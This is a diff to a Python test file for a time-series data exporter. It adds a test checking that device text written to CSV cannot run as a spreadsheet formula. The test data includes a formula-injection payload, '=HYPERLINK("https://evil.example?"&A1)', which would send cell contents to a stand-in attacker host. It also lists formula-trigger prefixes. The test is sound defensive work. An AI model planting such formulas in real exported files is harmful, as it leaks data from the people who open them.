@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import builtins
 import contextlib
+import csv
 import io
 import tracemalloc
 from pathlib import Path
@@ -16,6 +17,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from tests.engines.series.play import DEVICE, START, Play, packet
 
+from armillary.engines.series import export
 from armillary.engines.series.chunks import HOUR_MS
 from armillary.engines.series.export import COLUMNS, csv_parts, parquet_parts, read_csv, time_text
 from armillary.engines.series.store import Restored
@@ -94,6 +96,30 @@ def test_restored_names_survive_a_crash_before_the_next_flush(tmp_path: Path) ->
     second.seal(START + 9 * HOUR_MS)
     assert second.store.raw(DEVICE, "b", 0, END, 9) == [(START, 2.0), (START + 5, 3.0)]
     second.store.close(START)
+
+
+FORMULAS = ('=HYPERLINK("https://evil.example?"&A1)', "+1", "-1", "@x", "\t=1", "'quoted", "''twice", "plain=1")
+
+
+def test_no_text_of_a_device_is_a_formula_of_who_opens_the_file(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
+    for at, text in enumerate(FORMULAS):
+        play.keep((START + 6 * HOUR_MS + at, {"said": text, "=1+1": at}))
+    play.decode()
+    whole = exported(play)
+
+    def computed(text: str) -> list[str]:
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [row[1] for row in rows] + [row[4] for row in rows if row[3] != "number"]
+        return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    assert computed(whole) == []
+    said = [value for _, metric, _, value, _ in read_csv(io.StringIO(whole, newline="")) if metric == "said"]
+    assert said == list(FORMULAS)  # the control: nothing is lost
+    assert [value for _, metric, _, value, _ in read_csv(io.StringIO(whole, newline="")) if metric == "=1+1"]
+    # Mutation: as it was sent, it is computed.
+    monkeypatch.setattr(export, "_shielded", lambda text: text)
+    monkeypatch.setitem(export._TEXTS, export.Kind.TEXT, lambda values: values)
+    assert len(computed(exported(play))) == 5 + len(FORMULAS)
 
 
 def test_parquet_holds_the_same(play: Play) -> None:
